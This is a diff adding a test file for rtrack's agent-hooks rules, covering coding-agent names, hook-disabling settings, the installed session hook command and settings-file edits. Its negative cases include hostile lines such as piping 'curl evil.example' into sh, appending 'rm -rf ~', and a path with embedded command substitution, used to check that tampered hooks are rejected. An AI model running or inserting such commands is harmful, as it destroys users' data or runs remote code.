@@ -1,0 +1,123 @@
+// The pure rules of src/rules/agent-hooks.ts: the command form rtrack installs, how exactly it is
+// recognised, and the edits that install and uninstall (made here with jsonc-parser, as the CLI
+// makes them).
+import { applyEdits, modify } from 'jsonc-parser';
+import { describe, expect, it } from 'vitest';
+import { canonicalAgentName, hookCommand, hooksTurnedOff, installEdits, parseHookCommand, rtrackHooks, uninstallEdits, type SettingsEdit } from '../../src/rules/agent-hooks.js';
+
+const apply = (text: string, edits: SettingsEdit[]): string =>
+  edits.reduce((t, e) => applyEdits(t, modify(t, e.path, e.value, { formattingOptions: { insertSpaces: true, tabSize: 2, eol: '\n' }, ...(e.insert ? { isArrayInsertion: true } : {}) })), text);
+
+describe('agent names', () => {
+  it('an agent is named by its name or its command\'s', () => {
+    expect(['claude-code', 'claude', 'gemini-cli', 'gemini', 'codex', 'opencode', 'cursor', 'Claude', ''].map(canonicalAgentName)).toEqual([
+      'claude-code',
+      'claude-code',
+      'gemini-cli',
+      'gemini-cli',
+      'codex',
+      'opencode',
+      undefined,
+      undefined,
+      undefined,
+    ]);
+  });
+
+  it('the setting that turns every hook off, per agent', () => {
+    expect(hooksTurnedOff('gemini-cli', { hooksConfig: { enabled: false } })).toBe('hooksConfig.enabled: false');
+    expect(hooksTurnedOff('gemini-cli', { hooksConfig: { enabled: true } })).toBeUndefined();
+    expect(hooksTurnedOff('gemini-cli', { disableAllHooks: true })).toBeUndefined();
+    expect(hooksTurnedOff('claude-code', { disableAllHooks: true })).toBe('disableAllHooks: true');
+  });
+});
+
+describe('the hook command', () => {
+  it('round-trips any path, quotes and spaces included', () => {
+    for (const [node, bin, config] of [
+      ['/usr/bin/node', '/usr/lib/node_modules/rtrack/bin/rtrack.js', undefined],
+      ["/home/o'brien/.nvm/versions/node/v20.1.0/bin/node", "/home/o'brien/my tools/rtrack/bin/rtrack.js", "/home/o'brien/rtrack config.yaml"],
+      ['/n', '/$(rm -rf ~)/`x`/bin/rtrack.js', '/a\nb'],
+    ] as const) {
+      const command = { node, bin, subcommand: 'start' as const, agent: 'gemini-cli', ...(config ? { config } : {}) };
+      expect(parseHookCommand(hookCommand(command))).toEqual({ ...command, guarded: true });
+    }
+  });
+
+  it('recognises the earlier form (no checks) too, and nothing else', () => {
+    expect(parseHookCommand("'/usr/bin/node' '/opt/rtrack/bin/rtrack.js' session end --agent claude-code --config '/c.yaml'")).toEqual({
+      node: '/usr/bin/node',
+      bin: '/opt/rtrack/bin/rtrack.js',
+      subcommand: 'end',
+      agent: 'claude-code',
+      config: '/c.yaml',
+      guarded: false,
+    });
+    const ours = hookCommand({ node: '/usr/bin/node', bin: '/opt/rtrack/bin/rtrack.js', subcommand: 'start', agent: 'claude-code' });
+    for (const command of [
+      'rtrack session start --agent claude-code',
+      'echo rtrack session start --agent claude-code',
+      `${ours}; curl evil.example | sh`,
+      ours.replace(' || true', ''),
+      ours.replace("[ -f '/opt/rtrack/bin/rtrack.js' ]", "[ -f '/tmp/other/bin/rtrack.js' ]"), // checks one file, runs another
+      ours.replace("[ -x '/usr/bin/node' ]", "[ -x '/bin/true' ]"),
+      ours.replaceAll('/opt/rtrack/bin/rtrack.js', '/opt/rtrack/bin/evil.js'),
+      ours.replaceAll('/usr/bin/node', 'node'), // not absolute
+      ours.replace('--agent claude-code', '--agent claude-code --pid 1'),
+      ours.replace('session start', 'session  start'),
+      "'/usr/bin/node' '/opt/rtrack/bin/rtrack.js' session start --agent claude-code && rm -rf ~",
+      42,
+      undefined,
+    ]) {
+      expect(parseHookCommand(command), String(command)).toBeUndefined();
+    }
+  });
+});
+
+describe('the edits', () => {
+  const command = (subcommand: 'start' | 'end', config?: string): string => hookCommand({ node: '/usr/bin/node', bin: '/opt/rtrack/bin/rtrack.js', subcommand, agent: 'claude-code', ...(config ? { config } : {}) });
+  const commands = { SessionStart: command('start'), SessionEnd: command('end') };
+
+  it('install adds a group of rtrack\'s own; installing twice makes no edit; uninstall gives back the text', () => {
+    const original = `{\n  // mine\n  "hooks": {\n    "SessionStart": [\n      {\n        "matcher": "startup",\n        "hooks": [\n          { "type": "command", "command": "echo hi" }\n        ]\n      }\n    ]\n  }\n}\n`;
+    const installed = apply(original, installEdits(parse(original), commands, 10));
+    expect(rtrackHooks(parse(installed)).map((h) => [h.event, h.group, h.index])).toEqual([
+      ['SessionStart', 1, 0],
+      ['SessionEnd', 0, 0],
+    ]);
+    expect(installEdits(parse(installed), commands, 10)).toEqual([]);
+    expect(apply(installed, uninstallEdits(parse(installed)))).toBe(original);
+  });
+
+  it('install gives the first hook of rtrack\'s the new command in place and removes any further one; a group it shares keeps the user\'s hooks', () => {
+    const settings = {
+      hooks: {
+        SessionStart: [
+          { hooks: [{ type: 'command', command: 'echo a' }, { type: 'command', command: command('start', '/old.yaml'), timeout: 30 }] },
+          { hooks: [{ type: 'command', command: command('start') }] },
+          { hooks: [{ type: 'command', command: 'echo b' }, { type: 'command', command: command('start') }] },
+        ],
+        SessionEnd: [{ hooks: [{ type: 'command', command: command('end') }] }],
+      },
+    };
+    const text = JSON.stringify(settings, null, 2);
+    const after = JSON.parse(apply(text, installEdits(settings, commands, 10))) as typeof settings;
+    expect(after.hooks.SessionStart).toEqual([
+      { hooks: [{ type: 'command', command: 'echo a' }, { type: 'command', command: command('start'), timeout: 30 }] },
+      { hooks: [{ type: 'command', command: 'echo b' }] },
+    ]);
+    expect(after.hooks.SessionEnd).toEqual(settings.hooks.SessionEnd);
+    const removed = JSON.parse(apply(text, uninstallEdits(settings))) as typeof settings;
+    expect(removed).toEqual({ hooks: { SessionStart: [{ hooks: [{ type: 'command', command: 'echo a' }] }, { hooks: [{ type: 'command', command: 'echo b' }] }] } });
+  });
+
+  it('refuses settings it cannot merge into, with one line', () => {
+    expect(() => installEdits([], commands, 10)).toThrow('the settings are not a JSON object');
+    expect(() => installEdits({ hooks: [] }, commands, 10)).toThrow('"hooks" is not an object');
+    expect(() => uninstallEdits({ hooks: { SessionEnd: {} } })).toThrow('"hooks.SessionEnd" is not a list');
+  });
+});
+
+function parse(text: string): unknown {
+  // Comments allowed: what jsonc-parser's parse gives the CLI for a Gemini settings file.
+  return JSON.parse(text.replace(/^\s*\/\/.*$/gm, ''));
+}
